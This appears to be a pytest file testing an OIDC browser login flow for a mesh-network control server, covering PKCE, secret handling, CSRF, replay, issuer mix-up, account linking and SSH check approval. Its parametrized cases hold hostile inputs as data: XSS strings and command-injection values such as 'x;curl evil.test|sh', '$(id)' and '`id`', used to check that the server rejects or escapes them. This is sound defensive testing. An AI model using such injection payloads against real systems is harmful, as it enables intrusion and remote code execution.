"""A login by browser, from the AuthURL to the node, and every way it must not go. Control protocol §7.3."""

from __future__ import annotations

import base64
import hashlib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from joserfc import jwk

from gw.control import accounts, enrolment
from gw.control.events import acting_as
from gw.control.oidc.logins import LIFETIME_S, MAX_FOR_ONE_DEVICE, Attempt, Tickets
from gw.control.oidc.routes import read_secret_file
from gw.control.pending import LIFETIME_S as PENDING_S
from gw.control.undo import Undo, describe
from gw.errors import AuthRequired, ConfigError, GwError
from gw.policy.reader import read_policy


async def test_a_person_connects_a_device(scene: Any) -> None:
    node = await scene.log_in(hostname="laptop")
    user = scene.world.tailnet.users["ann"]
    assert (node.user, node.doc.register_method, node.doc.given_name) == ("ann", "oidc", "laptop")
    assert (user.provider, user.provider_id, user.email) == ("oidc", "https://id.test/s-1", "ann@example.org")
    assert [event.event for event in scene.world.events] == ["user-created", "node-registered"]
    assert scene.world.events[-1].actor == "oidc ann@example.org"
    assert len(scene.logins._attempts) == len(scene.logins._confirmations) == 0


async def test_a_login_is_no_change_of_an_administrator_and_undo_leaves_it_alone(scene: Any) -> None:
    tailnet = scene.world.tailnet
    undo = Undo(tailnet)
    with acting_as("root (uid 0)"):
        await accounts.create_user(tailnet, "zed")
    node = await scene.log_in()
    with acting_as("root (uid 0)"):
        assert describe(await undo.undo()) == ["user zed: removed"]
    assert tailnet.roster.has(node)


async def test_what_the_provider_is_asked(make_scene: Any) -> None:
    scene = make_scene(scope=["openid", "email", "groups"], extra_params={"hd": "example.org"})
    auth_id = scene.device()
    await scene.to_provider(auth_id)
    asked = scene.browser.sent_to
    assert asked["redirect_uri"] == "http://mesh.test/oidc/callback"
    assert (asked["scope"], asked["hd"], asked["response_type"]) == ("openid email groups", "example.org", "code")
    assert (asked["client_id"], asked["code_challenge_method"]) == ("mesh", "S256")
    assert await scene.back(asked["state"]) == 200
    verifier = scene.provider.forms[0]["code_verifier"]
    digest = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
    assert digest == asked["code_challenge"]


async def test_the_secret_goes_in_a_header_and_nowhere_else(make_scene: Any, tmp_path: Path) -> None:
    path = tmp_path / "secret"
    path.write_text("s:3%cret\n")
    path.chmod(0o600)
    scene = make_scene(client_secret_file=str(path))
    await scene.log_in()
    header = scene.provider.headers[0]["Authorization"]
    assert base64.b64decode(header.removeprefix("Basic ")) == b"mesh:s%3A3%25cret"
    assert "client_secret" not in scene.provider.forms[0]


async def test_the_secret_goes_in_the_form_where_the_provider_wants_it(make_scene: Any, tmp_path: Path) -> None:
    path = tmp_path / "secret"
    path.write_text("cret")
    path.chmod(0o600)
    scene = make_scene(client_secret_file=str(path))
    scene.provider.metadata = {"token_endpoint_auth_methods_supported": ["client_secret_post"]}
    await scene.log_in()
    assert scene.provider.forms[0]["client_secret"] == "cret"
    assert "Authorization" not in scene.provider.headers[0]


@pytest.mark.parametrize("content", [None, "", "\n"])
def test_a_bad_secret_file_is_one_clear_line(tmp_path: Path, content: str | None) -> None:
    path = tmp_path / "secret"
    if content is not None:
        path.write_text(content)
        path.chmod(0o600)
    with pytest.raises(ConfigError, match=r"client_secret_file.*|.*secret"):
        read_secret_file(str(path))


def test_a_secret_that_others_may_read_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "secret"
    path.write_text("cret")
    path.chmod(0o644)
    with pytest.raises(ConfigError, match="readable by others") as caught:
        read_secret_file(str(path))
    assert "chmod 600" in str(caught.value.hint)


# Cross-site requests, other browsers, second uses


async def test_the_cookies_are_for_the_server_alone(make_scene: Any) -> None:
    scene = make_scene(server_url="https://mesh.test")
    auth_id = scene.device()
    state = await scene.to_provider(auth_id)
    first = scene.browser.set_cookies[0]
    assert first.startswith("__Host-gw-login-")
    assert all(word in first for word in ("HttpOnly", "Secure", "SameSite=lax", "Path=/", "Max-Age=600"))
    assert await scene.back(state) == 200
    assert "SameSite=strict" in scene.browser.set_cookies[1]


async def test_another_browser_cannot_finish_the_login(scene: Any) -> None:
    auth_id = scene.device()
    state = await scene.to_provider(auth_id)
    cookies = dict(scene.browser.cookies)
    scene.browser.cookies.clear()
    assert await scene.back(state) == 400
    scene.browser.cookies = dict.fromkeys(cookies, "x" * 43)
    assert await scene.back(state) == 400
    assert not scene.provider.forms, "no code was spent"
    scene.browser.cookies = cookies
    assert await scene.back(state) == 200, "the right one still can"


async def test_a_login_works_once(scene: Any) -> None:
    auth_id = scene.device()
    state = await scene.to_provider(auth_id)
    cookies = dict(scene.browser.cookies)
    assert await scene.back(state) == 200
    token, after = scene.browser.form_token, dict(scene.browser.cookies)
    scene.browser.cookies = cookies
    assert await scene.back(state) == 400
    scene.browser.cookies = after
    assert await scene.answer(auth_id, token=token) == 200
    scene.browser.cookies = after
    assert await scene.answer(auth_id, token=token) == 400


async def test_a_form_of_another_site_connects_nothing(scene: Any) -> None:
    """The attacker knows the id of their own device, and can make the victim's browser post."""
    auth_id = scene.device()
    assert await scene.back(await scene.to_provider(auth_id)) == 200
    token = scene.browser.form_token
    scene.browser.cookies.clear()  # SameSite=strict
    assert await scene.answer(auth_id, token=token) == 400
    assert await scene.answer(auth_id, token="x" * 43) == 400
    assert not scene.world.tailnet.nodes
    assert not scene.world.tailnet.users


async def test_a_confirmation_is_for_the_device_it_showed(scene: Any) -> None:
    one, other = scene.device(machine="mkey:1"), scene.device(machine="mkey:2")
    assert await scene.back(await scene.to_provider(one)) == 200
    assert await scene.answer(other) == 400
    assert not scene.world.tailnet.nodes


async def test_a_person_may_say_that_the_device_is_not_theirs(scene: Any) -> None:
    auth_id = scene.device()
    assert await scene.back(await scene.to_provider(auth_id)) == 200
    assert await scene.answer(auth_id, "no") == 200
    with pytest.raises(AuthRequired, match="rejected"):
        await enrolment.wait_auth(scene.world.tailnet, auth_id)
    assert not scene.world.tailnet.users, "who only looked is not a user"


async def test_a_device_that_stopped_waiting_is_not_let_in(scene: Any) -> None:
    auth_id = scene.device()
    assert await scene.back(await scene.to_provider(auth_id)) == 200
    scene.world.forward(seconds=PENDING_S + 1)
    assert await scene.answer(auth_id) == 404
    assert "gw up" in scene.browser.text
    assert not scene.world.tailnet.nodes


async def test_an_unknown_device_is_not_sent_to_the_provider(scene: Any) -> None:
    assert await scene.browser.open("GET", "/register/hskey-authreq-000000000000000000000000") == 404
    assert not scene.provider.asked
    assert not scene.world.events, "strangers do not fill the event trail"


def test_tickets_age_and_are_bounded() -> None:
    now = [0.0]
    tickets: Tickets[Attempt] = Tickets(lambda: now[0])
    issued = [tickets.issue(Attempt("a", "n", "v")) for _ in range(MAX_FOR_ONE_DEVICE + 3)]
    assert len(tickets) == MAX_FOR_ONE_DEVICE
    assert tickets.redeem(issued[2].token, issued[2].cookie) is None
    assert tickets.redeem(issued[3].token, issued[3].cookie) is not None
    now[0] = LIFETIME_S + 1
    assert tickets.redeem(issued[4].token, issued[4].cookie) is None
    assert not len(tickets)


# The provider misbehaves


async def test_the_server_says_when_the_provider_is_away(scene: Any, caplog: pytest.LogCaptureFixture) -> None:
    scene.provider.is_down = True
    auth_id = scene.device()
    assert await scene.browser.open("GET", f"/register/{auth_id}") == 503
    assert "cannot be used at the moment" in scene.browser.text
    assert "id.test" in caplog.text
    assert len(scene.logins._attempts) == 0


async def test_an_away_provider_is_asked_at_most_every_ten_seconds(scene: Any) -> None:
    scene.provider.metadata = {"issuer": "https://other.test"}
    auth_id = scene.device()
    for _ in range(5):
        assert await scene.browser.open("GET", f"/register/{auth_id}") == 503
    assert len(scene.provider.asked) == 1


async def test_a_provider_of_another_name_is_refused_with_what_to_write(scene: Any) -> None:
    scene.provider.metadata = {"issuer": "https://id.test/"}
    with pytest.raises(GwError, match="calls itself") as caught:
        await scene.logins.check()
    assert "oidc.issuer" in str(caught.value.hint)


async def test_an_endpoint_without_tls_is_refused(scene: Any) -> None:
    scene.provider.metadata = {"token_endpoint": "http://id.test/token"}
    with pytest.raises(GwError, match="not https"):
        await scene.logins.check()


@pytest.mark.parametrize(
    ("answer", "status"),
    [
        ((400, b'{"error":"invalid_grant","error_description":"<b>secret</b>"}'), 400),
        ((401, b'{"error":"invalid_client"}'), 503),
        ((500, b"<html>"), 400),
        ((200, b"not json"), 503),
        ((200, b'{"access_token":"at"}'), 503),
        ((200, b'{"id_token":"a.b.c"}'), 400),
    ],
)
async def test_a_code_that_gives_no_token(scene: Any, answer: tuple[int, bytes], status: int) -> None:
    scene.provider.token_answer = answer
    assert await scene.back(await scene.to_provider(scene.device())) == status
    assert "secret" not in scene.browser.text
    assert not scene.world.tailnet.users


async def test_the_wrong_nonce_is_refused(scene: Any) -> None:
    auth_id = scene.device()
    state = await scene.to_provider(auth_id)
    scene.provider.nonce = "of another login"
    assert await scene.back(state) == 400
    assert [event.event for event in scene.world.events] == ["login-refused"]


async def test_an_answer_of_another_provider_is_refused(scene: Any) -> None:
    """RFC 9207: mix-up."""
    state = await scene.to_provider(scene.device())
    assert await scene.back(state, iss="https://evil.test") == 400
    assert not scene.provider.forms


async def test_a_promised_issuer_must_be_there(scene: Any) -> None:
    scene.provider.metadata = {"authorization_response_iss_parameter_supported": True}
    assert await scene.back(await scene.to_provider(scene.device())) == 400
    assert await scene.back(await scene.to_provider(scene.device()), iss="https://id.test") == 200


@pytest.mark.parametrize("word", ["access_denied", "<script>alert(1)</script>", "x" * 500])
async def test_a_refusal_of_the_provider_is_told_safely(scene: Any, word: str) -> None:
    state = await scene.to_provider(scene.device())
    assert await scene.back(state, error=word, error_description="<script>") == 403
    assert "<script>" not in scene.browser.text
    assert ("access_denied" in scene.browser.text) == (word == "access_denied")


async def test_a_new_key_is_fetched_when_a_token_names_it(scene: Any) -> None:
    await scene.log_in()
    scene.provider.key = jwk.RSAKey.generate_key(2048, {"kid": "two", "use": "sig"})
    scene.provider.header = {"alg": "RS256", "kid": "two"}
    await scene.log_in(machine="mkey:2", hostname="other")
    assert scene.provider.asked.count("/jwks") == 2


async def test_unknown_keys_do_not_make_us_ask_again_and_again(scene: Any) -> None:
    scene.provider.header = {"alg": "RS256", "kid": "nobody's"}
    for _ in range(5):
        assert await scene.back(await scene.to_provider(scene.device())) == 400
    assert scene.provider.asked.count("/jwks") == 2, "once, and once more for the unknown one"
    scene.logins.provider()._missed_at -= 31
    assert await scene.back(await scene.to_provider(scene.device())) == 400
    assert scene.provider.asked.count("/jwks") == 3


async def test_hostile_names_are_shown_as_text(scene: Any) -> None:
    scene.provider.claims = {"name": '<img src=x onerror="alert(1)">', "preferred_username": "<b>"}
    auth_id = scene.device(hostname='"><script>alert(1)</script>')
    assert await scene.back(await scene.to_provider(auth_id)) == 200
    assert "<script>" not in scene.browser.text
    assert "<img" not in scene.browser.text
    assert "frame-ancestors 'none'" in scene.browser.headers["content-security-policy"]


# Who one is


async def test_userinfo_goes_over_the_token(scene: Any) -> None:
    scene.provider.metadata = {"userinfo_endpoint": "https://id.test/userinfo"}
    scene.provider.userinfo = {"sub": "s-1", "groups": ["ops"], "name": "Ann III", "iss": "https://evil.test"}
    await scene.log_in()
    user = scene.world.tailnet.users["ann"]
    assert (user.groups, user.display_name, user.provider_id) == (["ops"], "Ann III", "https://id.test/s-1")


async def test_userinfo_of_another_person_is_refused(scene: Any) -> None:
    scene.provider.metadata = {"userinfo_endpoint": "https://id.test/userinfo"}
    scene.provider.userinfo = {"sub": "s-2"}
    assert await scene.back(await scene.to_provider(scene.device())) == 400


async def test_another_address_of_userinfo_is_not_the_verified_one(scene: Any) -> None:
    scene.provider.metadata = {"userinfo_endpoint": "https://id.test/userinfo"}
    scene.provider.userinfo = {"sub": "s-1", "email": "ceo@example.org"}
    assert await scene.back(await scene.to_provider(scene.device())) == 401


async def test_userinfo_that_fails_is_done_without(scene: Any) -> None:
    scene.provider.metadata = {"userinfo_endpoint": "https://id.test/userinfo"}
    assert (await scene.log_in()).user == "ann"


async def test_the_same_person_is_the_same_user_under_other_names(scene: Any) -> None:
    await scene.log_in()
    scene.provider.claims = {"preferred_username": "ann2", "email": "ann@new.org", "name": "Ann Married"}
    node = await scene.log_in(machine="mkey:2", hostname="phone")
    assert list(scene.world.tailnet.users) == ["ann"]
    assert node.user == "ann"
    assert scene.world.tailnet.users["ann"].email == "ann@new.org"
    again = scene.world.reloaded()
    assert again.tailnet.people.of_identity("https://id.test/s-1").name == "ann"


async def test_another_subject_of_the_same_user_name_is_another_user(scene: Any) -> None:
    await scene.log_in()
    scene.provider.claims = {"sub": "s-2", "email": "other@example.org"}
    node = await scene.log_in(machine="mkey:2", hostname="phone")
    assert node.user == "other@example.org"


async def test_an_address_that_changed_hands_opens_no_account(scene: Any) -> None:
    await scene.log_in()
    scene.provider.claims = {"sub": "s-2", "email": "ANN@example.org"}
    auth_id = scene.device(machine="mkey:2")
    assert await scene.back(await scene.to_provider(auth_id)) == 200
    assert await scene.answer(auth_id) == 403
    assert "Another account" in scene.browser.text
    assert len(scene.world.tailnet.nodes) == 1


async def test_a_user_made_by_hand_is_taken_over_by_the_proven_address_alone(scene: Any) -> None:
    await accounts.create_user(scene.world.tailnet, "hand", email="ann@example.org")
    await accounts.create_user(scene.world.tailnet, "ann")
    node = await scene.log_in()
    assert node.user == "hand"
    scene.provider.claims = {"sub": "s-9", "email": "zoe@example.org", "preferred_username": "ann"}
    assert (await scene.log_in(machine="mkey:2", hostname="b")).user == "zoe@example.org", "a name proves nothing"


async def test_logins_side_by_side_make_one_user(scene: Any) -> None:
    import asyncio

    from gw.control.oidc.identity import admit
    from gw.control.oidc.people import settle_user

    identity = admit(scene.provider.good(), scene.logins.settings)
    async with scene.world.tailnet.running():
        users = await asyncio.gather(*(settle_user(scene.world.tailnet, identity) for _ in range(20)))
    assert {user.name for user in users} == {"ann"}
    assert len(scene.world.tailnet.users) == 1


# Groups in the policy


POLICY = """{
  "groups": {"group:ops": ["bob@"]},
  "tagOwners": {"tag:server": ["group:ops"]},
  "acls": [{"action": "accept", "src": ["group:ops"], "dst": ["tag:server:22"]}],
}"""


async def test_groups_of_the_provider_add_to_those_that_the_policy_names(make_scene: Any) -> None:
    scene = make_scene(read_policy(POLICY.encode()))
    tailnet = scene.world.tailnet
    server = await scene.world.node(user=None, hostname="server", tags=["tag:server"])
    scene.provider.claims = {"groups": ["dev", "nobody-named-it"]}
    node = await scene.log_in()
    assert not tailnet.policy.visible(node, server)
    scene.provider.claims = {"groups": ["ops"]}
    await scene.log_in(machine="mkey:2", hostname="phone")
    assert tailnet.policy.visible(node, server), "all devices of the person"
    assert tailnet.policy.may_tag("ann", "tag:server")
    scene.provider.claims = {}
    await scene.log_in(machine="mkey:3", hostname="pad")
    assert not tailnet.policy.visible(node, server), "and no longer once they left the group"


# How long


async def test_a_login_lasts_as_long_as_the_settings_say(make_scene: Any) -> None:
    scene = make_scene(expiry="30d")
    node = await scene.log_in()
    assert node.doc.expiry == scene.world.now + timedelta(days=30)


async def test_a_login_lasts_as_long_as_the_token(make_scene: Any) -> None:
    scene = make_scene(use_expiry_from_token=True, expiry="30d")
    node = await scene.log_in()
    assert node.doc.expiry == datetime.fromtimestamp(scene.provider.good()["exp"], UTC)


async def test_an_expired_node_comes_back_as_the_same_one(make_scene: Any) -> None:
    scene = make_scene(expiry="1d")
    node = await scene.log_in()
    before = (node.id, node.doc.addresses, node.doc.given_name, node.doc.node_key)
    scene.world.forward(days=2)
    assert scene.world.tailnet.is_expired(node)
    scene.provider.claims = {"exp": scene.provider.good()["exp"] + 200000}
    again = await scene.log_in()
    assert (again.id, again.doc.addresses, again.doc.given_name) == before[:3]
    assert again.doc.node_key != before[3]
    assert not scene.world.tailnet.is_expired(again)


async def test_the_settings_are_followed_while_the_server_runs(make_scene: Any) -> None:
    import msgspec

    scene = make_scene(allowed_domains=["example.com"])
    assert await scene.back(await scene.to_provider(scene.device())) == 403
    tailnet = scene.world.tailnet
    wider = msgspec.structs.replace(tailnet.config.oidc, allowed_domains=["example.org"])
    tailnet.commons.set_config(msgspec.structs.replace(tailnet.config, oidc=wider))
    assert await scene.back(await scene.to_provider(scene.device())) == 200


async def test_without_a_provider_the_page_tells_what_an_administrator_types(make_scene: Any) -> None:
    import msgspec

    from gw.state.config import OidcSettings

    scene = make_scene()
    scene.world.tailnet.config = msgspec.structs.replace(scene.world.tailnet.config, oidc=OidcSettings())
    assert await scene.browser.open("GET", "/register/hskey-authreq-012345") == 200
    assert "gwctl auth approve hskey-authreq-012345 --user NAME" in scene.browser.text
    assert scene.browser.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("path", ["/register", "/auth"])
@pytest.mark.parametrize(
    "auth_id", ["<script>", "x;curl evil.test|sh", "$(id)", "--user=eve", "a b", "x" * 100, "`id`"]
)
async def test_an_address_does_not_choose_what_an_administrator_types(make_scene: Any, path: str, auth_id: str) -> None:
    import msgspec

    from gw.state.config import OidcSettings

    scene = make_scene()
    scene.world.tailnet.config = msgspec.structs.replace(scene.world.tailnet.config, oidc=OidcSettings())
    assert await scene.browser.open("GET", f"{path}/{auth_id}") == 400
    assert "gwctl" not in scene.browser.text
    assert auth_id not in scene.browser.text


async def ssh_check(scene: Any, source: Any) -> str:
    """A connection from this node to a server, begun; its id."""
    server = await scene.world.node("", hostname="web", tags=["tag:web"])
    target = f"/machine/ssh/action/{source.id}/to/{server.id}?local_user=root"
    first = await scene.world.tailnet.ssh_checks.answer(server.doc.machine_key, target)
    return str(first.hold_and_delegate.rpartition("=")[2])


@pytest.fixture
def checked(make_scene: Any) -> Any:
    return make_scene(
        read_policy(b"""{"tagOwners": {"tag:web": []}, "ssh": [
        {"action": "check", "src": ["autogroup:member"], "dst": ["tag:web"], "users": ["root"]}]}""")
    )


@pytest.mark.parametrize(("answer", "approved"), [("yes", True), ("no", False)])
async def test_the_owner_of_a_device_decides_on_its_ssh_connection(checked: Any, answer: str, approved: bool) -> None:
    auth_id = await ssh_check(checked, await checked.log_in(hostname="laptop"))
    assert await checked.browser.open("GET", f"/auth/{auth_id}") == 302
    checked.provider.nonce = checked.browser.sent_to["nonce"]
    assert await checked.back(checked.browser.sent_to["state"]) == 200
    assert "root@web" in checked.browser.text
    check = checked.world.tailnet.ssh_checks.require(auth_id)
    assert await checked.answer(auth_id, answer) == 200
    assert (check.settled.is_set(), check.approved) == (True, approved)
    assert checked.world.events[-1].actor == "oidc ann@example.org"
    assert await checked.browser.open("GET", f"/auth/{auth_id}") == 404


async def test_nobody_confirms_the_connection_of_anothers_device(checked: Any) -> None:
    await checked.log_in(hostname="laptop")
    auth_id = await ssh_check(checked, await checked.world.node("ben", hostname="ben"))
    await checked.browser.open("GET", f"/auth/{auth_id}")
    checked.provider.nonce = checked.browser.sent_to["nonce"]
    assert await checked.back(checked.browser.sent_to["state"]) == 403
    assert "not your device" in checked.browser.text
    assert not checked.world.tailnet.ssh_checks.require(auth_id).approved
